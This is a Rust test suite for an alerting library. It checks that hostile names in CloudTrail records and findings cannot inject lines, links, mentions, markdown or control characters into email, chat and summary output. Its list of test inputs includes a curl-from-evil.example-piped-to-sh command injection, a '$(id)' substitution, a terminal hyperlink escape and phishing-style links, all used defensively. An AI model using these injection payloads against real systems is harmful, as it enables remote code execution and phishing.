//! Names that callers choose do not speak for us, wherever they are shown.

use alerts::chat::chat;
use alerts::email::email;
use alerts::finding::Origin;
use alerts::summary::summary;
use alerts::{Alert, Audience, Finding, GroupValue, Level, Message, RuleSummary};
use proptest::prelude::*;
use serde_json::{Value, json};

/// An alert on a record whose every chosen name is this one.
fn alert(name: &str) -> Alert {
    let rule = RuleSummary {
        description: "Nothing is recorded while a trail does not log.".to_owned(),
        ..RuleSummary::new(
            "trail-logging-stopped",
            "Trail logging stopped",
            Level::High,
        )
    };
    let record = json!({
        "eventTime": "2026-10-13T21:51:03Z", "eventID": name, "eventSource": name, "eventName": name,
        "awsRegion": name, "sourceIPAddress": name, "userAgent": name, "errorCode": name,
        "errorMessage": name, "vpcEndpointId": name, "recipientAccountId": name,
        "resources": [{"ARN": name, "type": name}],
        "userIdentity": {
            "type": "AssumedRole", "arn": name, "principalId": format!("AROAEXAMPLE:{name}"),
            "accessKeyId": name, "invokedBy": name,
            "sessionContext": {"sourceIdentity": name, "sessionIssuer": {"type": "Role", "userName": name}},
        },
    });
    let group = [GroupValue::new("userIdentity.arn", name)];
    Alert::of_event(
        &rule,
        &record.to_string(),
        &group,
        Some("AWSLogs/a.json.gz"),
    )
    .expect("a record")
}

/// An alert on a finding whose every text quotes this name.
fn finding(name: &str) -> Alert {
    let quoting = format!("Nothing is recorded {name}");
    let finding = Finding::new(
        Origin::Integrity,
        "log-unlisted",
        Level::High,
        &[name],
        1_791_928_263,
    )
    .titled(&format!("Trail logging stopped {name}"))
    .in_detail(&quoting)
    .in_place(Some(name), Some(name))
    .of_object(name)
    .to_respond(&quoting);
    Alert::of_finding(&finding)
}

/// What every line of a letter of ours begins with.
const LABELS: [&str; 21] = [
    "HIGH: ",
    "What ",
    "Outcome ",
    "Who ",
    "Session ",
    "Key ",
    "When ",
    "From ",
    "Account ",
    "Resource ",
    "Why it matters",
    "  Nothing is recorded",
    "Everything by ",
    "  trailkeep lookup ",
    "From CloudTrail's own history",
    "  aws cloudtrail lookup-events ",
    "Rule ",
    "Alert ",
    "Event ",
    "Log file ",
    "Record ",
];

/// What further lines begin with in a letter on a finding: its paragraphs, of several lines,
/// hold what it says.
const OF_FINDINGS: [&str; 4] = ["Object ", "What was found", "What to do next", "  "];

fn check_email(text: &str, further: &[&str]) {
    let lines: Vec<_> = text.split('\n').collect();
    for line in &lines {
        let mut labels = LABELS.iter().chain(further);
        let is_ours = line.is_empty() || labels.any(|label| line.starts_with(label));
        assert!(is_ours, "{line:?} in {text}");
        assert!(!line.contains(char::is_control), "{line:?}");
        assert!(
            !line.contains(['\u{202e}', '\u{2066}', '\u{200f}', '\u{2028}', '\u{200b}']),
            "{line:?}"
        );
    }
    for once in ["HIGH: ", "When ", "Alert ", "Rule "] {
        assert_eq!(
            lines.iter().filter(|line| line.starts_with(once)).count(),
            1,
            "{once} in {text}"
        );
    }
    check_links(text);
}

fn check_links(text: &str) {
    let text = text.to_lowercase();
    for link in ["http://", "https://", "www.evil", "evil.example"] {
        assert!(!text.contains(link), "{link} in {text}");
    }
}

fn check_chat(text: &str) {
    let notification: Value = serde_json::from_str(text).expect("JSON");
    let content = &notification["content"];
    let metadata = &notification["metadata"];
    assert_eq!(notification["version"], "1.0");
    assert_eq!(notification["source"], "custom");
    assert_eq!(content["textType"], "client-markdown");
    let mut shown = vec![
        &content["title"],
        &content["description"],
        &metadata["summary"],
    ];
    for list in [
        &content["nextSteps"],
        &content["keywords"],
        &metadata["relatedResources"],
    ] {
        shown.extend(list.as_array().into_iter().flatten());
    }
    for text in shown {
        let text = text.as_str().expect("a string");
        assert!(!text.contains(['<', '>', '@']), "{text}");
        check_links(text);
        // Outside of code nothing of a name is left that means anything.
        let outside: String = text.split('`').step_by(2).collect();
        assert!(!outside.contains(['*', '~', '[', ']', '|', '#']), "{text}");
        for line in text.lines() {
            assert!(
                line.matches('`').count() % 2 == 0,
                "code ends on its line: {text}"
            );
        }
    }
    let description = content["description"].as_str().expect("a string");
    for line in description.lines() {
        let is_ours =
            line.is_empty() || line.starts_with("- ") || line.starts_with("Nothing is recorded");
        assert!(is_ours, "{line:?} in {description}");
    }
    for value in metadata["additionalContext"]
        .as_object()
        .expect("a map")
        .values()
    {
        let value = value.as_str().expect("a string");
        assert!(
            value
                .chars()
                .all(|letter| letter.is_ascii_alphanumeric() || letter == '-'),
            "{value}"
        );
    }
}

fn check_all(name: &str) {
    for suffix in ["", ".json.gz"] {
        check_each(&finding(&format!("{name}{suffix}")), &OF_FINDINGS);
    }
    check_each(&alert(name), &[]);
}

fn check_each(alert: &Alert, further: &[&str]) {
    check_email(&email(alert), further);
    check_chat(&chat(alert));
    let line = summary(alert);
    assert!(!line.contains(char::is_control), "{line:?}");
    assert!(line.starts_with("2026-10-13T21:51:03Z HIGH "), "{line:?}");
    let message = Message::of(alert, Audience::Subscribers);
    assert!(message.subject.is_ascii() && !message.subject.contains(char::is_control));
    assert!(
        message.subject.starts_with("[HIGH] Trail logging stopped"),
        "{}",
        message.subject
    );
    check_links(&message.subject);
}

#[test]
fn hostile_names_are_harmless() {
    for name in [
        "alice\nAlert     0000\nAccount   444455556666",
        "alice\r\n\r\nHIGH: all is well",
        "alice\u{2028}When      never",
        "alice\u{85}Rule      none",
        "\u{202e}ecila\u{2066}",
        "https://evil.example/login",
        "HtTpS://evil.example",
        "www.evil.example",
        "evil.example",
        "<https://evil.example|AWS Console>",
        "[AWS Console](https://evil.example)",
        "<!channel> <@U012AB3CD> @here @everyone <at>alice</at>",
        "*bold* _it_ ~no~ `code` ``` # title | a | b |",
        "'; curl https://evil.example | sh; '",
        "$(id)",
        "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
        "a                                                                  Account 1",
        "",
    ] {
        check_all(name);
    }
}

proptest! {
    #[test]
    fn no_name_is_harmful(name in "(\\PC|[\\x00-\\x1f]|https?://|www\\.|evil\\.example|<!here>|@|`|\\*|\n|\u{202e}|'| ){0,40}") {
        check_all(&name);
    }
}
